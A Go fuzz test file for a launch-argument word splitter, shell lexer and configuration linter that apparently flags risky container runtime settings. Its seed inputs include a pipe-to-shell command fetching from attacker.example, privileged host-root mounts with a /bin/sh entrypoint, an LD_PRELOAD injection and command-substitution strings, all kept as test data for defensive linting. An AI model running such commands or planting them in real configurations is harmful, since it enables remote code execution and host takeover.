package launch

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzArgv fuzzes the argument readers: the word splitter, the shell lexer and the runtime
// flag parser. They must never panic, must stay bounded, and must not lose a flag.
func FuzzArgv(f *testing.F) {
	for _, s := range []string{"--privileged -v /:/host --entrypoint /bin/sh", `-c "curl http://attacker.example/x | sh"`,
		`sh -c 'a; b' && $(c) "d $(e)" ` + "`f`", `--mount=type=bind,src=/,dst=/h`, `-itv/:/h`, `'unterminated`, `"x\`, `\`,
		"a\nb", "<(curl x)", "-", "--", "--=", "-e=LD_PRELOAD=x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		words := SplitWords(s)
		if len(words) > maxWords {
			t.Fatalf("%d words", len(words))
		}
		if !strings.ContainsAny(s, "'\"\\") && strings.Join(words, " ") != strings.Join(strings.FieldsFunc(s, func(r rune) bool { return strings.ContainsRune(" \t\n\r", r) }), " ") {
			t.Fatalf("plain text split as %q", words)
		}
		if toks := Lex(s); len(toks) > maxWords {
			t.Fatalf("%d tokens", len(toks))
		}
		var toks []token
		for _, w := range words {
			toks = append(toks, token{w, "/x", s})
		}
		flags := parseFlags(toks)
		// Every word that is a long flag is parsed as a flag of its own (a value never
		// swallows a flag).
		for _, w := range words {
			if w == "--" {
				break
			}
			if strings.HasPrefix(w, "--") && len(w) > 2 && utf8.ValidString(w) {
				name, _, _ := strings.Cut(w[2:], "=")
				found := false
				for _, fl := range flags {
					if fl.name == strings.ToLower(name) {
						found = true
					}
				}
				if !found {
					t.Fatalf("flag %q lost in %q: %+v", w, s, flags)
				}
			}
		}
		r := &report{seen: map[string]bool{}}
		containerLint(r, toks)
		invocations(r, toks)
		shellPayload(r, s, "/x", true)
		for _, f := range r.findings {
			if SeverityRank(f.Severity) < 0 || f.Rule == "" {
				t.Fatalf("bad finding %+v", f)
			}
		}
	})
}

// FuzzLint fuzzes the whole reader: any document parses or fails with ErrMalformed, and
// linting and sectioning what parses never panics.
func FuzzLint(f *testing.F) {
	f.Add([]byte(ociDoc(`[{"type":"positional","value":"--privileged"},{"type":"named","name":"-v","value":"/:/host"},{"type":"named","name":"--entrypoint","value":"/bin/sh"}]`,
		`[{"type":"positional","value":"-c"},{"type":"positional","value":"curl http://attacker.example/x | sh"}]`, `[{"name":"LD_PRELOAD","value":"/x.so"}]`)))
	f.Add([]byte(`{"remotes":[{"type":"sse","url":"https://r","headers":[{"name":"Authorization","value":"Bearer {t}","variables":{"t":{"default":"abc","choices":["{t}","x"]}}}]}]}`))
	f.Add([]byte(`{"packages":[{"runtimeArguments":[{"type":"named","name":"-v","value":"{a}{b}:/h","variables":{"a":{"choices":["/","x"]},"b":{"default":"{a}"}}}]}]}`))
	f.Add([]byte(`{"packages":null,"remotes":[null]}`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		if len(doc) > 64<<10 {
			return
		}
		cfg, err := Parse(doc)
		if err != nil {
			return
		}
		for _, fd := range Lint(cfg) {
			if SeverityRank(fd.Severity) < 0 || !strings.HasPrefix(fd.Pointer, "/") {
				t.Fatalf("bad finding %+v", fd)
			}
		}
		if s, err := Sections(doc); err == nil {
			_ = Diff(s, s)
		}
	})
}
